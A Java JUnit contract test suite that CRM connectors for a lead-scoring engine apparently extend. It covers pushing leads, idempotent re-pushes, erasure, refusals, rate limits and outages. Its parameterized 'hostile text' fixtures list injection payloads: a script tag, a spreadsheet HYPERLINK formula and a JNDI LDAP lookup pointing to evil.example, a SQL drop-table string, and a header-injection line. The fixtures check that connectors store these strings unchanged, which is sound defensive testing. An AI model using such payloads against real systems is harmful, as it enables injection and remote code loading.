package salesinsights.crm.spi;

import static org.assertj.core.api.Assertions.assertThat;
import static salesinsights.crm.spi.LeadBuilder.aLead;

import java.time.Duration;
import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What the engine relies on, whatever the CRM. A connector's test extends this, or {@link PullingCrmContract} if it gives
 * outcomes, and brings a {@link CrmBench}; it implements {@link RecordsContract}, {@link TimelineContract},
 * {@link TasksContract}, {@link SchemaContract} and {@link SetUpContract} for what else the connector can do.
 */
public abstract class CrmContract {
    protected CrmBench bench;

    /** A CRM without records. */
    protected abstract CrmBench freshBench();

    @BeforeEach
    void aFreshCrm() {
        bench = freshBench();
    }

    /** The CRM of this test. */
    public CrmBench bench() {
        return bench;
    }

    protected Crm crm() {
        return bench.crm();
    }

    protected PushOutcome push(CrmLead lead) {
        return crm().push(List.of(lead)).getFirst();
    }

    private CrmLead kept(String externalId) {
        List<CrmLead> found = bench.records().stream()
                .filter(record -> record.externalId().equals(externalId))
                .map(CrmBench.Kept::lead)
                .toList();
        assertThat(found).as("records of one lead").hasSize(1);
        return found.getFirst();
    }

    private List<CrmLead> batch(int size) {
        return IntStream.range(0, size)
                .mapToObj(
                        number -> aLead().named("Lead " + number).scored(number).build())
                .toList();
    }

    // ---- what a CRM says of itself

    @Test
    void limitsAreStatedWithoutACall() {
        bench.nextIsAway();

        assertThat(crm().capabilities().batchAtMost()).isBetween(1, 1_000);
        assertThat(crm().capabilities().patience()).isBetween(Duration.ofMillis(1), Duration.ofMinutes(1));
    }

    @Test
    void theStoreKeepsItsNameAcrossPushes() {
        String before = crm().epoch();
        push(aLead().build());

        assertThat(crm().epoch()).isEqualTo(before);
    }

    @Test
    void aWorkingConnectionChecksOut() {
        Checked checked = crm().check();

        assertThat(checked.works()).as(checked.sentence()).isTrue();
        assertThat(checked.sentence()).isNotBlank();
    }

    @Test
    void checkingChangesNothing() {
        crm().check();

        assertThat(bench.records()).isEmpty();
    }

    @Test
    void whatIsLeftIsSaidWithoutACall() {
        bench.nextIsAway();

        Allowance left = crm().allowance();

        assertThat(left == null || left.callsLeft() >= 0).isTrue();
    }

    @Test
    void everyAbilityHasItsPartOfTheContract() {
        assertThat(this instanceof RecordsContract).as("gives records").isEqualTo(crm() instanceof GivesRecords);
        assertThat(this instanceof TimelineContract).as("takes a timeline").isEqualTo(crm() instanceof TakesTimeline);
        assertThat(this instanceof TasksContract).as("takes tasks").isEqualTo(crm() instanceof TakesTasks);
        assertThat(this instanceof SchemaContract).as("has a schema").isEqualTo(crm() instanceof HasSchema);
        assertThat(this instanceof SetUpContract).as("sets itself up").isEqualTo(crm() instanceof SetsUp);
    }

    // ---- pushing

    @Test
    void aPushedLeadIsThere() {
        CrmLead lead = aLead().named("Grace Hopper")
                .scored(73, "Answered", "Clicked pricing")
                .build();

        assertThat(push(lead)).isInstanceOf(PushOutcome.Stored.class);
        assertThat(kept(lead.externalId())).isEqualTo(bench.asKept(lead));
    }

    @Test
    void theCrmNamesTheRecordItStored() {
        assertThat(push(aLead().build()))
                .isInstanceOfSatisfying(
                        PushOutcome.Stored.class,
                        stored -> assertThat(stored.crmId()).isNotBlank());
    }

    @Test
    void pushingTwiceKeepsOneRecord() {
        CrmLead lead = aLead().build();
        PushOutcome first = push(lead);

        assertThat(push(lead)).isEqualTo(first);
        assertThat(bench.records()).hasSize(1);
    }

    @Test
    void theNewestStateWins() {
        CrmLead before = aLead().scored(10).build();
        push(before);
        CrmLead after = aLead().id(before.externalId())
                .version(2)
                .scored(80, "Answered")
                .build();

        push(after);

        assertThat(kept(before.externalId())).isEqualTo(bench.asKept(after));
    }

    @Test
    void aRecordKeepsItsIdWhenItsStateChanges() {
        CrmLead lead = aLead().build();
        PushOutcome first = push(lead);

        assertThat(push(aLead().id(lead.externalId())
                        .version(2)
                        .named("Renamed")
                        .build()))
                .isEqualTo(first);
    }

    @Test
    void twoLeadsOfOneNameAreTwoRecords() {
        push(aLead().named("Kim").email("kim@a.example").build());
        push(aLead().named("Kim").email("kim@b.example").build());

        assertThat(bench.records()).hasSize(2);
    }

    @Test
    void twoLeadsWithOneAddressAreTwoRecords() {
        push(aLead().email("office@shared.example").build());
        push(aLead().email("office@shared.example").build());

        assertThat(bench.records()).hasSize(2);
    }

    @Test
    void aLeadWithoutScoreOrAddressIsTaken() {
        CrmLead lead = aLead().bare().build();

        assertThat(push(lead)).isInstanceOf(PushOutcome.Stored.class);
        assertThat(kept(lead.externalId())).isEqualTo(bench.asKept(lead));
    }

    @Test
    void aScoreMayFallAndVanish() {
        CrmLead lead = aLead().scored(90).build();
        push(lead);
        CrmLead without = aLead().id(lead.externalId()).version(2).bare().build();

        push(without);

        assertThat(kept(lead.externalId()).score()).isNull();
    }

    @Test
    void negativePointsSurvive() {
        CrmLead lead = aLead().scored(-12.5).build();
        push(lead);

        assertThat(Objects.requireNonNull(kept(lead.externalId()).score()).points())
                .isEqualTo(-12.5);
    }

    @Test
    void aFullBatchIsTakenInOrder() {
        List<CrmLead> batch = batch(crm().capabilities().batchAtMost());

        List<PushOutcome> outcomes = crm().push(batch);

        assertThat(outcomes).hasSameSizeAs(batch).allMatch(PushOutcome.Stored.class::isInstance);
        assertThat(bench.records()).hasSameSizeAs(batch);
        Set<String> ids = new HashSet<>();
        outcomes.forEach(outcome -> ids.add(((PushOutcome.Stored) outcome).crmId()));
        assertThat(ids).hasSameSizeAs(batch);
    }

    @Test
    void aBatchPushedAgainInAnotherOrderKeepsOneRecordEach() {
        List<CrmLead> batch = batch(Math.min(7, crm().capabilities().batchAtMost()));
        crm().push(batch);

        crm().push(batch.reversed());

        assertThat(bench.records()).hasSameSizeAs(batch);
    }

    @Test
    void everyPartOfAScoreArrives() {
        CrmLead lead = aLead().scored(73, "Answered", "Clicked pricing")
                .likelyToWin(0.42)
                .build();

        push(lead);

        CrmLead.Score kept = Objects.requireNonNull(kept(lead.externalId()).score());
        CrmLead.Score pushed = Objects.requireNonNull(lead.score());
        assertThat(kept.score()).isEqualTo(pushed.score());
        assertThat(kept.grade()).isEqualTo(pushed.grade());
        assertThat(kept.tier()).isEqualTo(pushed.tier());
        assertThat(kept.reasons()).isEqualTo(pushed.reasons());
    }

    @Test
    void anErasedLeadIsNotFoundByItsNameOrAddress() {
        CrmLead lead = aLead().named("Grace Hopper").email("grace@navy.example").build();
        push(lead);

        assertThat(crm().forget(List.of(aLead().id(lead.externalId())
                                .version(2)
                                .named("Erased")
                                .bare()
                                .build()))
                        .getFirst())
                .isInstanceOf(PushOutcome.Stored.class);

        assertThat(bench.records())
                .noneMatch(record -> record.lead().name().contains("Grace")
                        || "grace@navy.example".equals(record.lead().email()));
    }

    @Test
    void forgettingALeadThatIsNotThereIsNoTrouble() {
        assertThat(crm().forget(List.of(aLead().named("Erased").bare().build())).getFirst())
                .isInstanceOf(PushOutcome.Stored.class);
    }

    // ---- hostile text

    static Stream<String> hostileTexts() {
        return Stream.of(
                "<script>alert(1)</script>",
                "=HYPERLINK(\"http://evil.example\")",
                "'; drop table lead; --",
                "line one\r\nSet-Cookie: evil=1",
                "quote \" backslash \\ slash / brace } ]",
                "تجربة עברית 日本語 🧨 e\u0301",
                "\u202Egnp.exe",
                "${jndi:ldap://evil.example/a}{{7*7}}%s%n",
                "tab\tand\u0001control",
                "x".repeat(400));
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void hostileTextComesThroughUnchanged(String text) {
        CrmLead lead = aLead().named(text).company(text).scored(5, text).build();

        assertThat(push(lead)).isInstanceOf(PushOutcome.Stored.class);
        assertThat(kept(lead.externalId())).isEqualTo(bench.asKept(lead));
    }

    // ---- refusals

    @Test
    void aRefusedLeadComesBackWithAReason() {
        CrmLead lead = aLead().build();
        bench.dislikes(lead.externalId(), "is on the list of competitors");

        assertThat(push(lead))
                .isInstanceOfSatisfying(
                        PushOutcome.Refused.class,
                        refused -> assertThat(refused.why()).contains("is on the list of competitors"));
        assertThat(bench.records()).isEmpty();
    }

    @Test
    void oneRefusedLeadDoesNotHoldUpItsNeighbours() {
        List<CrmLead> batch = batch(Math.min(3, crm().capabilities().batchAtMost()));
        bench.dislikes(batch.getFirst().externalId(), "no");

        List<PushOutcome> outcomes = crm().push(batch);

        assertThat(outcomes.getFirst()).isInstanceOf(PushOutcome.Refused.class);
        assertThat(outcomes.subList(1, outcomes.size())).allMatch(PushOutcome.Stored.class::isInstance);
        assertThat(bench.records()).hasSize(batch.size() - 1);
    }

    @Test
    void aMendedLeadIsTaken() {
        CrmLead lead = aLead().build();
        bench.dislikes(lead.externalId(), "no");
        push(lead);
        bench.likes(lead.externalId());

        assertThat(push(lead)).isInstanceOf(PushOutcome.Stored.class);
    }

    @Test
    void aRefusedChangeLeavesTheOldState() {
        CrmLead lead = aLead().build();
        push(lead);
        bench.dislikes(lead.externalId(), "no");

        push(aLead().id(lead.externalId()).version(2).named("Changed").build());

        assertThat(kept(lead.externalId())).isEqualTo(bench.asKept(lead));
    }

    @Test
    void allOfABatchMayBeRefused() {
        List<CrmLead> batch = batch(Math.min(5, crm().capabilities().batchAtMost()));
        batch.forEach(lead -> bench.dislikes(lead.externalId(), "no"));

        assertThat(crm().push(batch)).hasSameSizeAs(batch).allMatch(PushOutcome.Refused.class::isInstance);
    }

    // ---- bad days

    @Test
    void aBusyCrmSaysHowLongToRest() {
        bench.nextIsBusy(Duration.ofSeconds(7));

        assertThat(push(aLead().build()))
                .isInstanceOfSatisfying(
                        PushOutcome.Busy.class,
                        busy -> assertThat(busy.restFor()).isBetween(Duration.ofSeconds(6), Duration.ofSeconds(7)));
        assertThat(bench.records()).isEmpty();
    }

    @Test
    void whenTheFirstOfABatchMeetsABusyCrmTheRestIsNotTried() {
        List<CrmLead> batch = batch(Math.min(4, crm().capabilities().batchAtMost()));
        bench.nextIsBusy(Duration.ofSeconds(30));

        assertThat(crm().push(batch)).hasSameSizeAs(batch).allMatch(PushOutcome.Busy.class::isInstance);
        assertThat(bench.records()).isEmpty();
    }

    @Test
    void anAnswerThatWasLostIsNotTakenForStored() {
        bench.nextAnswerIsLost();

        assertThat(push(aLead().build())).isInstanceOf(PushOutcome.Unreachable.class);
    }

    @Test
    void repeatingAfterALostAnswerKeepsOneRecord() {
        CrmLead lead = aLead().build();
        bench.nextAnswerIsLost();
        push(lead);

        assertThat(push(lead)).isInstanceOf(PushOutcome.Stored.class);
        assertThat(bench.records()).hasSize(1);
    }

    @Test
    void aNewerStateAfterALostAnswerKeepsOneRecord() {
        CrmLead lead = aLead().build();
        bench.nextAnswerIsLost();
        push(lead);
        CrmLead newer = aLead().id(lead.externalId()).version(2).named("Newer").build();

        push(newer);

        assertThat(kept(lead.externalId())).isEqualTo(bench.asKept(newer));
    }

    @Test
    void aCrmThatIsAwayIsUnreachableInASentence() {
        bench.nextIsAway();

        assertThat(push(aLead().build()))
                .isInstanceOfSatisfying(
                        PushOutcome.Unreachable.class,
                        away -> assertThat(away.why()).isNotBlank());
        assertThat(bench.records()).isEmpty();
    }

    @Test
    void aCrmThatWasAwayIsThereAgain() {
        CrmLead lead = aLead().build();
        bench.nextIsAway();
        push(lead);

        assertThat(push(lead)).isInstanceOf(PushOutcome.Stored.class);
    }

    @Test
    void notBeingLetInIsNotAFailureToRepeat() {
        bench.nextIsLockedOut();

        assertThat(push(aLead().build()))
                .isInstanceOfSatisfying(
                        PushOutcome.Unauthorised.class,
                        out -> assertThat(out.why()).isNotBlank());
        assertThat(bench.records()).isEmpty();
    }

    @Test
    void everyLeadOfABatchHasAnOutcomeOnABadDay() {
        List<CrmLead> batch = batch(Math.min(5, crm().capabilities().batchAtMost()));
        bench.nextIsLockedOut();

        assertThat(crm().push(batch)).hasSameSizeAs(batch);
    }
}
